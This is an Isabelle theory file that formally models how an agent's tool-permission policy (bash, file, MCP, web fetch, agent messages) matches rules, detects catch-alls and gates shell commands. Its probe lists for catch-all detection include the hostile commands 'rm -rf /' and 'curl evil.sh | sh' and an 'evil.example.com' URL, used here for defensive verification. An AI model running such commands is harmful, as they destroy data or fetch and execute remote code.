(* ===== verification/PolicyEval.thy ===== *)
theory PolicyEval imports PolicyMatch PermRules begin

text \<open>
  The compiled policy and its evaluation (\<^verbatim>\<open>permission/policy.rs\<close>,
  \<^verbatim>\<open>permission/policy/bash_commands.rs\<close>). The inline scripts of a shell are recursed into
  on a budget: the recursion is on the budget, and a step is a definition that takes the recursive
  call as an argument, none when the budget is spent.
\<close>

section \<open>Which rules reach an access\<close>

definition tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access tf =
     (case tf of
        TfAny \<Rightarrow> True
      | TfBash \<Rightarrow> (case access of AcBash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfEdit \<Rightarrow> (case access of AcEdit _ \<Rightarrow> True | AcTool _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfRead \<Rightarrow> (case access of AcRead _ \<Rightarrow> True | AcGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfGrep \<Rightarrow> (case access of AcGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfMcp \<Rightarrow> (case access of AcMCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfWebFetch \<Rightarrow> (case access of AcWebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfWebSearch \<Rightarrow> (case access of AcWebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | TfAgentMessage \<Rightarrow> (case access of AcAgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition is_tool_wide_pattern :: "string option \<Rightarrow> bool" where
  "is_tool_wide_pattern p \<longleftrightarrow> p = None \<or> p = Some ''*'' \<or> p = Some []"

definition restricts :: "permission_rule \<Rightarrow> bool" where
  "restricts rule \<longleftrightarrow> rule_act rule = RDeny \<or> rule_act rule = RAsk"

definition rule_reaches :: "access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_reaches access rule =
     (if (case access of AcTool _ \<Rightarrow> True | _ \<Rightarrow> False) \<and> rule_tool rule = TfEdit
      then restricts rule \<and> is_tool_wide_pattern (rule_pattern rule)
      else tool_filter_matches access (rule_tool rule))"

definition pattern_matches ::
    "policy_env \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> glob_pattern option \<Rightarrow> path option \<Rightarrow> bool" where
  "pattern_matches E access rule matcher cwd =
     (case rule_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = ''*'' then True
          else case access of
            AcBash cmd \<Rightarrow>
              (let cmd = trim_start cmd
               in starts_with cmd pattern \<or> glob_matches cmd False matcher)
          | AcEdit p \<Rightarrow> path_context_matches p matcher cwd
          | AcRead p \<Rightarrow> (case p of Some p \<Rightarrow> path_context_matches p matcher cwd | None \<Rightarrow> False)
          | AcGrep p _ \<Rightarrow> (case p of Some p \<Rightarrow> path_context_matches p matcher cwd | None \<Rightarrow> False)
          | AcMCPTool name _ \<Rightarrow> glob_matches name False matcher
          | AcWebFetch url \<Rightarrow>
              (case rule_mode rule of
                 Domain \<Rightarrow> domain_matches E pattern url
               | Glob \<Rightarrow> glob_matches url False matcher)
          | AcWebSearch query \<Rightarrow> glob_matches query False matcher \<or> starts_with query pattern
          | AcAgentMessage i \<Rightarrow> glob_matches i False matcher \<or> starts_with i pattern
          | AcTool name \<Rightarrow>
              rule_tool rule \<noteq> TfEdit \<and> (glob_matches name False matcher \<or> starts_with name pattern))"

section \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map AcBash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. AcMCPTool n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map AcWebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes = map AcAgentMessage [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition compile_pattern :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> glob_pattern option" where
  "compile_pattern E rule =
     (case rule_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else glob_new E p)"

definition rule_is_catchall :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall E rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches E a rule (compile_pattern E rule) None) in
      case rule_tool rule of
        TfBash \<Rightarrow> opens_all bash_probes
      | TfMcp \<Rightarrow> opens_all mcp_probes
      | TfWebFetch \<Rightarrow> opens_all webfetch_probes
      | TfAgentMessage \<Rightarrow> opens_all agent_message_probes
      | TfAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes \<or>
          opens_all agent_message_probes
      | _ \<Rightarrow> False)"

definition bash_glob_is_catchall :: "policy_env \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall E pattern =
     list_all (\<lambda>a. case a of AcBash cmd \<Rightarrow> bash_pattern_matches_command E pattern cmd | _ \<Rightarrow> False)
       bash_probes"

section \<open>The compiled policy\<close>

record compiled_policy =
  cp_config :: permission_config
  cp_matchers :: "glob_pattern option list"
  cp_has_file_restrictions :: bool
  cp_has_bash_command_restrictions :: bool
  cp_has_bash_allow_rules :: bool
  cp_catchall :: "bool list"

definition file_tool :: "tool_filter \<Rightarrow> bool" where
  "file_tool tf \<longleftrightarrow> tf = TfRead \<or> tf = TfEdit \<or> tf = TfAny"

definition bash_tool :: "tool_filter \<Rightarrow> bool" where
  "bash_tool tf \<longleftrightarrow> tf = TfBash \<or> tf = TfAny"

definition compiled_policy_new :: "policy_env \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "compiled_policy_new E config =
     (let rules = pc_rules config in
      \<lparr>cp_config = config,
       cp_matchers = map (compile_pattern E) rules,
       cp_has_file_restrictions = list_ex (\<lambda>r. restricts r \<and> file_tool (rule_tool r)) rules,
       cp_has_bash_command_restrictions = list_ex (\<lambda>r. restricts r \<and> bash_tool (rule_tool r)) rules,
       cp_has_bash_allow_rules = list_ex (\<lambda>r. rule_act r = RAllow \<and> bash_tool (rule_tool r)) rules,
       cp_catchall = map (rule_is_catchall E) rules\<rparr>)"

definition cp_rules :: "compiled_policy \<Rightarrow> permission_rule list" where
  "cp_rules p = pc_rules (cp_config p)"

section \<open>Allow rules for a command\<close>

datatype allow_rule_scope = ScopeAny | NarrowOnly

definition bash_words_allowed ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string list \<Rightarrow> allow_rule_scope \<Rightarrow> bool" where
  "bash_words_allowed E p words scope =
     (if words = [] then False
      else if scope = NarrowOnly \<and> head_is_exec_vehicle words then False
      else
        (let cmd = join '' '' words in
         list_ex (\<lambda>((rule, matcher), catchall).
             \<not> (scope = NarrowOnly \<and> catchall) \<and> rule_act rule = RAllow \<and> bash_tool (rule_tool rule) \<and>
             bash_allow_pattern_matches E cmd rule matcher)
           (zip (zip (cp_rules p) (cp_matchers p)) (cp_catchall p))))"

text \<open>Recovered projections and whether the allow rules cover every one of them.\<close>

definition recovered_commands ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> allow_rule_scope \<Rightarrow> (string list list \<times> bool) option" where
  "recovered_commands E p cmd scope =
     map_option
       (\<lambda>tree. let script = analyze tree cmd; ps = projections script
         in (ps, is_eligible script \<and> list_all (\<lambda>words. bash_words_allowed E p words scope) ps))
       (parse_shell E cmd)"

definition shell_words_of :: "string list \<Rightarrow> shell_word list" where
  "shell_words_of words = map Literal words"

text \<open>One command of a chain; \<open>inner\<close> decides an inline script while the budget lasts.\<close>

definition segment_allowed ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (string \<Rightarrow> bool) option \<Rightarrow> string list \<Rightarrow> bool" where
  "segment_allowed E p scope inner raw_words =
     (let norm = normalize_command_words raw_words; words = np_words norm in
      np_clean norm \<and> bash_words_allowed E p words scope \<and>
      (case shell_dash_c_script (shell_words_of words) of
         InlineLiteral i \<Rightarrow>
           (case (inner, get_at words i) of
              (Some allowed, Some script) \<Rightarrow> allowed script
            | _ \<Rightarrow> False)
       | NotInline \<Rightarrow> True
       | _ \<Rightarrow> False))"

definition chain_allowed_step ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (string \<Rightarrow> bool) option \<Rightarrow> string \<Rightarrow> bool" where
  "chain_allowed_step E p scope inner cmd =
     (case all_commands_from_script (parse_shell E) cmd of
        None \<Rightarrow>
          (case recovered_commands E p cmd scope of
             None \<Rightarrow> False
           | Some (_, covered) \<Rightarrow> covered)
      | Some segments \<Rightarrow>
          segments \<noteq> [] \<and> list_all (\<lambda>c. segment_allowed E p scope inner (pl_words c)) segments)"

primrec bash_chain_fully_allowed ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> bool" where
  "bash_chain_fully_allowed E p scope 0 = chain_allowed_step E p scope None"
| "bash_chain_fully_allowed E p scope (Suc d) =
     chain_allowed_step E p scope (Some (bash_chain_fully_allowed E p scope d))"

section \<open>Evaluation\<close>

fun tool_label :: "tool_filter \<Rightarrow> string" where
  "tool_label TfAny = ''any tool''"
| "tool_label TfBash = ''bash''"
| "tool_label TfEdit = ''edit''"
| "tool_label TfRead = ''read''"
| "tool_label TfGrep = ''grep''"
| "tool_label TfMcp = ''mcp''"
| "tool_label TfWebFetch = ''web_fetch''"
| "tool_label TfWebSearch = ''web_search''"
| "tool_label TfAgentMessage = ''agent_message''"

definition deny_reason :: "permission_rule \<Rightarrow> string" where
  "deny_reason rule =
     ''Denied by permission policy: deny rule on '' @ tool_label (rule_tool rule) @
     (case rule_pattern rule of
        Some pattern \<Rightarrow> '' matching '' @ [dquote_char] @ pattern @ [dquote_char]
      | None \<Rightarrow> [])"

text \<open>The loop over the rules: a deny ends it, asks and allows are remembered.\<close>

fun scan_rules ::
    "policy_env \<Rightarrow> access_kind \<Rightarrow> path option \<Rightarrow> (permission_rule \<times> glob_pattern option) list
      \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> string + bool \<times> bool" where
  "scan_rules E access cwd [] asked allowed = Inr (asked, allowed)"
| "scan_rules E access cwd ((rule, matcher) # rs) asked allowed =
     (if \<not> rule_reaches access rule \<or> \<not> pattern_matches E access rule matcher cwd
      then scan_rules E access cwd rs asked allowed
      else case rule_act rule of
        RDeny \<Rightarrow> Inl (deny_reason rule)
      | RAsk \<Rightarrow> scan_rules E access cwd rs True allowed
      | RAllow \<Rightarrow> scan_rules E access cwd rs asked True)"

definition evaluate_lexical_with_cwd ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> path option \<Rightarrow> decision option" where
  "evaluate_lexical_with_cwd E p access cwd =
     (case scan_rules E access cwd (zip (cp_rules p) (cp_matchers p)) False False of
        Inl reason \<Rightarrow> Some (Reject reason)
      | Inr (asked, allowed) \<Rightarrow>
          if asked then Some Ask
          else case access of
            AcBash cmd \<Rightarrow>
              if cp_has_bash_allow_rules p \<and>
                 bash_chain_fully_allowed E p ScopeAny max_inline_shell_depth cmd
              then Some Allow else None
          | _ \<Rightarrow> if allowed then Some Allow else None)"

fun native_file_path :: "access_kind \<Rightarrow> path option" where
  "native_file_path (AcEdit p) = Some p"
| "native_file_path (AcRead p) = p"
| "native_file_path (AcGrep p _) = p"
| "native_file_path _ = None"

text \<open>The last equation is the \<^verbatim>\<open>unreachable!\<close> of the code: callers have a native path.\<close>

fun access_with_path :: "access_kind \<Rightarrow> path \<Rightarrow> access_kind" where
  "access_with_path (AcEdit _) p = AcEdit p"
| "access_with_path (AcRead _) p = AcRead (Some p)"
| "access_with_path (AcGrep _ g) p = AcGrep (Some p) g"
| "access_with_path a _ = a"

definition native_path_restrictions_apply :: "compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply p access =
     list_ex (\<lambda>r. restricts r \<and> tool_filter_matches access (rule_tool r)) (cp_rules p)"

fun escalation_only :: "decision option \<Rightarrow> decision option" where
  "escalation_only (Some (Reject r)) = Some (Reject r)"
| "escalation_only (Some Ask) = Some Ask"
| "escalation_only _ = None"

definition evaluate_with_cwd_details ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> path option \<Rightarrow> decision option \<times> bool" where
  "evaluate_with_cwd_details E p access cwd =
     (let lexical = evaluate_lexical_with_cwd E p access cwd in
      case native_file_path access of
        None \<Rightarrow> (lexical, False)
      | Some file \<Rightarrow>
          (case raw_absolute_tool_path file cwd of
             None \<Rightarrow> (lexical, False)
           | Some raw_absolute \<Rightarrow>
               (let lexical_abs = path_match_string (absolute_normalized_path file cwd) in
                case follow_absolute_symlink E raw_absolute lexical_abs of
                  SymlinkTarget resolved \<Rightarrow>
                    (combine_decisions lexical (escalation_only
                       (evaluate_lexical_with_cwd E p (access_with_path access resolved) cwd)), False)
                | Unresolvable \<Rightarrow>
                    if native_path_restrictions_apply p access
                    then (combine_decisions lexical (Some Ask), True) else (lexical, False)
                | NoSymlink \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> path option \<Rightarrow> decision option" where
  "evaluate_with_cwd E p access cwd = fst (evaluate_with_cwd_details E p access cwd)"

definition evaluate :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate E p access = evaluate_with_cwd E p access None"

definition narrow_allow_authorizes :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes E p access =
     (case access of
        AcBash cmd \<Rightarrow>
          cp_has_bash_allow_rules p \<and>
          bash_chain_fully_allowed E p NarrowOnly max_inline_shell_depth cmd
      | _ \<Rightarrow> False)"

section \<open>The gate for commands\<close>

definition escalate_words :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string list \<Rightarrow> gate_decision option" where
  "escalate_words E p words =
     (case evaluate E p (AcBash (join '' '' words)) of
        Some (Reject reason) \<Rightarrow> Some (GReject reason)
      | Some Ask \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

definition ask_if :: "bool \<Rightarrow> gate_decision option" where
  "ask_if b = (if b then Some AskFailClosed else None)"

text \<open>An inline script: recursed into on the budget, or asked about.\<close>

definition recurse_or_ask ::
    "(string \<Rightarrow> gate_decision option) option \<Rightarrow> string option \<Rightarrow> gate_decision option" where
  "recurse_or_ask inner script =
     (case (inner, script) of
        (Some gate, Some s) \<Rightarrow> gate s
      | _ \<Rightarrow> Some AskFailClosed)"

definition inline_gate ::
    "(string \<Rightarrow> gate_decision option) option \<Rightarrow> string list \<Rightarrow> gate_decision option" where
  "inline_gate inner words =
     (case shell_dash_c_script (shell_words_of words) of
        InlineLiteral i \<Rightarrow> recurse_or_ask inner (get_at words i)
      | NotInline \<Rightarrow> None
      | _ \<Rightarrow> Some AskFailClosed)"

definition split_string_gate ::
    "(string \<Rightarrow> gate_decision option) option \<Rightarrow> string list \<Rightarrow> gate_decision option" where
  "split_string_gate inner words =
     (case env_split_string_script words of
        None \<Rightarrow> None
      | Some script \<Rightarrow> recurse_or_ask inner (Some script))"

definition evaluate_command_words ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> (string \<Rightarrow> gate_decision option) option \<Rightarrow> string list
      \<Rightarrow> gate_decision option" where
  "evaluate_command_words E p inner raw_words =
     (let norm = normalize_command_words raw_words;
          inner_words = np_words norm;
          forms = raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else []);
          d = combine_gate_decisions
                (ask_if (np_exhausted norm \<or> np_ambiguous norm \<or> np_env_options_uncertain norm))
                (ask_if (np_has_split_string norm));
          d = fold (\<lambda>words d. combine_gate_decisions d (escalate_words E p words)) forms d;
          d = combine_gate_decisions d (inline_gate inner inner_words)
      in combine_gate_decisions d (split_string_gate inner inner_words))"

definition segments_gate_step ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> (string \<Rightarrow> gate_decision option) option \<Rightarrow> string
      \<Rightarrow> gate_decision option" where
  "segments_gate_step E p inner cmd =
     (let gate_all = fold (\<lambda>words d. combine_gate_decisions d (evaluate_command_words E p inner words)) in
      case all_commands_from_script (parse_shell E) cmd of
        None \<Rightarrow>
          (case recovered_commands E p cmd ScopeAny of
             None \<Rightarrow> Some AskFailClosed
           | Some (projs, covered) \<Rightarrow> gate_all projs (ask_if (\<not> covered)))
      | Some segments \<Rightarrow> gate_all (map pl_words segments) None)"

primrec evaluate_bash_command_segments ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments E p 0 = segments_gate_step E p None"
| "evaluate_bash_command_segments E p (Suc d) =
     segments_gate_step E p (Some (evaluate_bash_command_segments E p d))"

definition evaluate_bash_command_gate ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate E p cmd =
     (if cp_has_bash_command_restrictions p
      then evaluate_bash_command_segments E p max_inline_shell_depth cmd else None)"

definition evaluate_bash_command_policy ::
    "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> decision option" where
  "evaluate_bash_command_policy E p cmd = map_option into_decision (evaluate_bash_command_gate E p cmd)"

end
